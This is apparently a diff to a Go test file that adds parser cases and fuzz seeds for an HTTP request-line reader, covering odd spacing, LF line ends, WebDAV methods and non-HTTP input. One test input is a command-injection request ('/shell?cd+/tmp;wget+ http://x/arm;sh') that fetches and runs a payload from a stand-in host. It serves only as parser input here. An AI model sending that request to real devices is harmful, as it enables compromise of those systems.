@@ -22,6 +22,31 @@ func TestParseRequest(t *testing.T) {
 		{"GET / HTTP/1.1\r\nHost: a", "", "", "", httpinfo.ErrIncomplete, 0},
 		{"\x16\x03\x01\x00", "", "", "", httpinfo.ErrNotHTTP, 0},
 		{"GET nonsense\r\n\r\n", "", "", "", httpinfo.ErrNotHTTP, 0},
+		// request-line variants servers and tshark read (issue 11: the
+		// differential suite's Zeek, Suricata and nDPI captures)
+		{"GET                  /long HTTP/1.1\r\nHost: www.lan:8080\r\n\r\n", "www.lan:8080", "http://www.lan:8080/long", "", nil, 59},
+		{"GET  /  HTTP/1.1\r\nHost: a\r\n\r\n", "a", "http://a/", "", nil, 29},
+		{"GET /shell?cd+/tmp;wget+ http://x/arm;sh HTTP/1.1\r\nHost: 127.0.0.1:80\r\n\r\n", "127.0.0.1:80", "http://127.0.0.1:80/shell?cd+/tmp;wget+ http://x/arm;sh", "", nil, 73},
+		{"GET HTTP/1.1\r\nHost: bro.org\r\n\r\n", "bro.org", "http://bro.org/", "", nil, 31},
+		{"OPTIONS * HTTP/1.1\nHost: www.google.com\n\n", "www.google.com", "http://www.google.com/", "", nil, 41},
+		// bare LF line ends, and a mix
+		{"GET / HTTP/1.1\nHost: zeek.org\nUser-Agent: u\n\nGET", "zeek.org", "http://zeek.org/", "u", nil, 45},
+		{"GET / HTTP/1.1\r\nHost: h\n\r\n", "h", "http://h/", "", nil, 26},
+		// empty lines before the request line (RFC 9112 §2.2), as between
+		// pipelined requests
+		{"\r\n\r\nGET /two/ HTTP/1.1\r\nHost: two.example.org\r\n\r\n", "two.example.org", "http://two.example.org/two/", "", nil, 49},
+		{"\nGET / HTTP/1.1\nHost: localhost\n\n", "localhost", "http://localhost/", "", nil, 33},
+		{"\r\n\r\n", "", "", "", httpinfo.ErrIncomplete, 0},
+		// WebDAV and other methods
+		{"PROPFIND /webdav HTTP/1.1\r\nHost: www.dlp-test.com\r\n\r\n", "www.dlp-test.com", "http://www.dlp-test.com/webdav", "", nil, 53},
+		{"MKCOL /d/ HTTP/1.1\r\nHost: d\r\n\r\n", "d", "http://d/d/", "", nil, 31},
+		{"VERSION-CONTROL /v HTTP/1.1\r\nHost: v\r\n\r\n", "v", "http://v/v", "", nil, 40},
+		{"M-SEARCH * HTTP/1.1\r\nHost: 239.255.255.250:1900\r\n\r\n", "239.255.255.250:1900", "http://239.255.255.250:1900/", "", nil, 51},
+		// not HTTP: unknown tokens, no version, a lower-case method
+		{"EHLO mail.example HTTP/1.1\r\n\r\n", "", "", "", httpinfo.ErrNotHTTP, 0},
+		{"get / HTTP/1.1\r\n\r\n", "", "", "", httpinfo.ErrNotHTTP, 0},
+		{"GET\r\n\r\n", "", "", "", httpinfo.ErrNotHTTP, 0},
+		{"GET /\r\n\r\n", "", "", "", httpinfo.ErrNotHTTP, 0},
 	}
 	for _, tc := range tests {
 		r, n, err := httpinfo.ParseRequest([]byte(tc.in))
@@ -46,10 +71,21 @@ func TestParseRequest(t *testing.T) {
 func FuzzParseRequest(f *testing.F) {
 	f.Add([]byte("GET / HTTP/1.1\r\nHost: a\r\n\r\n"))
 	f.Add([]byte("POST http://x/ HTTP/1.0\r\n\r\n"))
+	f.Add([]byte("\r\nPROPFIND  /a b  HTTP/1.1\nHost: h\n\n"))
+	f.Add([]byte("OPTIONS HTTP/1.1\r\n\r\n"))
 	f.Fuzz(func(t *testing.T, b []byte) {
 		r, n, err := httpinfo.ParseRequest(b)
-		if err == nil && (n > len(b) || r == nil) {
+		if err == nil && (n > len(b) || n <= 0 || r == nil) {
 			t.Fatalf("head length %d of %d", n, len(b))
+		}
+		if err == nil && (!httpinfo.LooksLikeRequest(b) || !strings.HasPrefix(r.Version, "HTTP/")) {
+			t.Fatalf("read %q as a request: %+v", b, r)
+		}
+		if len(b) > 2*httpinfo.MaxHead {
+			t.Skip() // the bound below is checked on inputs past it
+		}
+		if err == nil && n > len(b)-len(strings.TrimLeft(string(b), "\r\n"))+httpinfo.MaxHead {
+			t.Fatalf("read %d bytes, past the head bound", n)
 		}
 	})
 }
